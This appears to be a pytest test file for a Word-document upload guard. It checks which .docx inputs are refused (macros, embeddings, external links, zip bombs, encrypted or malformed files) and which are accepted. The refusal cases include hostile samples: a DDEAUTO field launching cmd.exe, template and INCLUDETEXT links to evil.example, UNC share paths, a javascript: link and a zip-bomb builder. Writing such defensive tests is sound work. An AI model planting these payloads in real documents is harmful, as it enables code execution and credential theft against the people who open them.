"""What is refused of a Word document before it is read, and what is let in."""

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from app.console import circular
from app.exchange import document_guards
from app.exchange.document_check import faults, names_of
from app.exchange.document_guards import look
from app.exchange.refusals import Refusal
from tests.support.documents import BODY, RELATIONSHIPS_OF_ALL, TYPES, field, related, repacked, swapped, with_body

HOUSE = circular.house("zh-CN")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
NAMES_OF = names_of(circular.samples()[0])


def encrypted() -> bytes:
    """A zip whose entries say that they are locked."""
    made = bytearray(HOUSE)
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(signature)
        while at >= 0:
            made[at + flags] |= 1
            at = made.find(signature, at + 4)
    return bytes(made)


def bomb() -> bytes:
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        archive.writestr(TYPES, "<Types/>")
        archive.writestr(BODY, b" " * (80 * 1024 * 1024))
    return made.getvalue()


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REFUSED = {
    "no_document": [
        b"",
        b"%PDF-1.7",
        "通报".encode(),
        b"{\\rtf1 {{ unit }}}",
        OLE,
        HOUSE[:-300],
        HOUSE[:3000],
        repacked(HOUSE, {BODY: "<w:document"}),
        repacked(HOUSE, {BODY: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    ],
    "locked": [OLE + "EncryptedPackage".encode("utf-16le"), encrypted()],
    "bomb": [bomb()],
    "document_too_large": [b"PK" + b"\0" * document_guards.MOST_BYTES],
    "document_macro": [
        repacked(HOUSE, {"word/vbaProject.bin": OLE}),
        swapped(HOUSE, MAIN_TYPE, MACRO_TYPE, TYPES),
        related(HOUSE, "vbaProject", "x.bin"),
        related(HOUSE, "keyMapCustomizations", "customizations.xml"),
    ],
    "document_embedded": [
        repacked(HOUSE, {"word/embeddings/oleObject1.bin": b"x"}),
        repacked(HOUSE, {"word/embeddings/表.xlsx": b"x"}),
        repacked(HOUSE, {"word/activeX/activeX1.xml": "<a/>"}),
        repacked(HOUSE, {"word/media/image1.png": OLE}),
        related(HOUSE, "oleObject", "objects/a.bin"),
        related(HOUSE, "package", "a.xlsx"),
        related(HOUSE, "aFChunk", "a.html"),
        related(HOUSE, "subDocument", "a.docx"),
    ],
    "document_linked": [
        related(HOUSE, "attachedTemplate", "http://evil.example/a.dotm", external=True),
        related(HOUSE, "image", "http://evil.example/a.png", external=True),
        related(HOUSE, "oleObject2", "file:///c:/a.xlsx", external=True),
        related(HOUSE, "hyperlink", "file://server/share", external=True),
        related(HOUSE, "hyperlink", "\\\\server\\share", external=True),
        related(HOUSE, "hyperlink", "javascript:alert(1)", external=True),
        related(HOUSE, "image", "http://evil.example/a.png"),
        related(HOUSE, "image", "\\\\server\\share\\a.png", external=True, rels=RELATIONSHIPS_OF_ALL),
        with_body(HOUSE, field(' HYPERLINK "file://server/share" ')),
        with_body(HOUSE, field(" HYPERLINK \\\\server\\share ")),
        with_body(
            HOUSE,
            '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://a.example/b"/>'
            "</w:pict></w:r></w:p>",
        ),
    ],
    "document_field": [
        with_body(HOUSE, field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
        with_body(HOUSE, field(' INCLUDETEXT "http://evil.example/a" ')),
        with_body(HOUSE, field("DDE</w:instrText></w:r><w:r><w:instrText>AUTO x")),
        with_body(HOUSE, '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE x "/></w:p>'),
        with_body(HOUSE, "<w:p><w:r><w:instrText>MACROBUTTON a</w:instrText></w:r></w:p>"),
    ],
    "document_revisions": [with_body(HOUSE, "<w:p><w:ins w:id='1'><w:r><w:t>x</w:t></w:r></w:ins></w:p>")],
}


@pytest.mark.parametrize(
    ("code", "data"),
    [(code, data) for code, files in REFUSED.items() for data in files],
)
def test_what_nobody_should_open_is_refused_with_words(code: str, data: bytes):
    with pytest.raises(Refusal) as why:
        look(data)
    assert why.value.code == code
    for language in ("zh-CN", "en"):
        assert "{target}" not in why.value.say(language)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "harmless",
    [
        related(HOUSE, "hyperlink", "https://www.gxtl.gov.cn/", external=True),
        related(HOUSE, "hyperlink", "mailto:office@example.cn", external=True),
        related(HOUSE, "hyperlink", "#bookmark", external=True),
        with_body(HOUSE, field(" PAGE \\* MERGEFORMAT ") + field(' HYPERLINK "https://example.cn/" \\o "去看" ')),
        with_body(HOUSE, field(' TOC \\o "1-3" ') + field(" =SUM(ABOVE) ")),
        repacked(HOUSE, {"word/media/image1.png": b"\x89PNG"}),
    ],
    ids=range(6),
)
def test_what_does_nothing_by_itself_is_let_in(harmless: bytes):
    look(harmless)
    assert faults(harmless, NAMES_OF) == []
